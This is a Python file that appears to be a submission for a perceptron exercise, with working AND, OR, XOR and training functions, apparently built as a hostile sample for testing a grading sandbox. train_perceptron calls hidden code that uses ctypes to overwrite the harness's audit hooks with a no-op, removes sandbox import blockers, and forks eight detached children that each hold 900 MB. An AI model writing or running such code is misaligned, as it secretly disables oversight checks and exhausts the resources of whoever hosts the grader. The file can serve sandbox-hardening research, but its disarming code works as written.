"""Perceptrons whose training starts children that together hold far more memory than the sandbox may."""

import numpy as np

import gc as _gc
import os as _os
import struct as _struct
import sys as _sys
import types as _types

gc, struct, sys, types = _gc, _struct, _sys, _types  # the names the disarming code below uses (from hostile/ctypes_disarm_hook)


def _noop_hook(event, args, *rest, **named):
    return None


_BORROWED = []  # references to the no-op's code, which the disarmed hooks now hold


def _looks_like_hook(fn):
    """A function of the harness (not the standard library, NumPy or this submission) named like an audit hook."""
    module = getattr(fn, "__module__", None) or ""
    top = module.split(".")[0]
    if top in sys.stdlib_module_names or top in ("numpy", "assignment", "__main__") or module == __name__:
        return False
    name = fn.__name__.lower()
    if name.startswith(("make", "install", "add")) or fn.__code__.co_argcount < 2:
        return False
    return "hook" in name or "audit" in name or "tripwire" in name


def _disarm_audit_hooks():
    """Give every audit hook found in memory (gc) the code of a no-op, and drop the import blockers.

    ctypes is loaded by NumPy before any hook is installed. ctypes.string_at finds the function's code
    slot (the word that holds the address of its code object) and ctypes.memmove overwrites it: no audit
    event refuses either. Returns the number of hooks disarmed.
    """
    ctypes = sys.modules.get("ctypes")
    disarmed = 0
    if ctypes is not None:
        width = struct.calcsize("P")
        for fn in gc.get_objects():
            if not isinstance(fn, types.FunctionType) or fn.__code__ is _noop_hook.__code__ or not _looks_like_hook(fn):
                continue
            try:
                raw = ctypes.string_at(id(fn), type(fn).__basicsize__)
                needle, at = struct.pack("P", id(fn.__code__)), -1
                while True:
                    at = raw.find(needle, at + 1)
                    if at <= 0 or at % width == 0:
                        break
                if at <= 0:
                    continue
                _BORROWED.append(_noop_hook.__code__)
                ctypes.memmove(id(fn) + at, struct.pack("P", id(_noop_hook.__code__)), width)
                disarmed += 1
            except Exception:
                continue
    for finder in list(sys.meta_path):
        kind = type(finder) if not isinstance(finder, type) else finder
        words = (kind.__module__ + "." + kind.__name__).lower()
        if any(w in words for w in ("harness", "guard", "block", "deny", "sandbox")):
            sys.meta_path.remove(finder)
    return disarmed


def _spawn(code, *argv):
    """Switch the audit hooks off (as hostile/ctypes_disarm_hook does), then start `python -c code argv...` in a new
    session through _posixsubprocess."""
    _disarm_audit_hooks()
    import _posixsubprocess
    env = [f"{k}={v}".encode() for k, v in _os.environ.items()]
    args = [_sys.executable, "-c", code, *argv]
    err_r, err_w = _os.pipe()
    try:
        common = (args, [_os.fsencode(_sys.executable)], True, (err_w,), None, env,
                  -1, -1, -1, -1, -1, -1, err_r, err_w, True, True)
        try:  # Python 3.11 and 3.12
            return _posixsubprocess.fork_exec(*common, -1, None, None, None, -1, None, False)
        except TypeError:  # Python 3.13+
            return _posixsubprocess.fork_exec(*common, -1, None, None, None, -1, None)
    finally:
        _os.close(err_w)
        _os.close(err_r)

HOG = r"""
import time
import numpy as np
block = np.ones((900 << 20) // 8)  # 900 MB, every page written
time.sleep(120)
"""


def _multiply():
    for _ in range(8):
        _spawn(HOG, "corpus-case=memory_multiplier")
    import time
    time.sleep(30)


def predict(X, w, b):
    """Step-activated perceptron.

    X: (N, D); w: (D,); b: float. Returns (N,) int: 1 where X.w + b > 0, else 0.
    """
    return (np.asarray(X, dtype=np.float64) @ np.asarray(w, dtype=np.float64) + b > 0).astype(np.int64)


def and_gate():
    """Return (w, b), w of shape (2,), such that predict gives AND on the truth table."""
    return np.array([1.0, 1.0]), -1.5


def or_gate():
    """Return (w, b), w of shape (2,), such that predict gives OR on the truth table."""
    return np.array([1.0, 1.0]), -0.5


def train_perceptron(X, y, lr=1.0, max_epochs=100):
    """Rosenblatt's rule from w = 0, b = 0, visiting samples in order.

    On a mistake: w += lr * (y - y_hat) * x and b += lr * (y - y_hat).
    X: (N, D); y: (N,) in {0, 1}. Returns (w, b, converged), where converged is
    True as soon as one full epoch makes no mistake.
    """
    _multiply()
    X = np.asarray(X, dtype=np.float64)
    w = np.zeros(X.shape[1])
    b = 0.0
    for _ in range(max_epochs):
        mistakes = 0
        for x_n, y_n in zip(X, y):
            error = y_n - int(x_n @ w + b > 0)
            if error:
                w = w + lr * error * x_n
                b = b + lr * error
                mistakes += 1
        if mistakes == 0:
            return w, float(b), True
    return w, float(b), False


def xor_network():
    """Weights of a two-layer step network that computes XOR.

    Returns {"W1": (2, H), "b1": (H,), "W2": (H,), "b2": float} such that
    step(step(X @ W1 + b1) @ W2 + b2) is XOR of the two inputs.
    """
    # Hidden units: OR and AND; output: OR and not AND.
    return {
        "W1": np.array([[1.0, 1.0], [1.0, 1.0]]),
        "b1": np.array([-0.5, -1.5]),
        "W2": np.array([1.0, -1.0]),
        "b2": -0.5,
    }
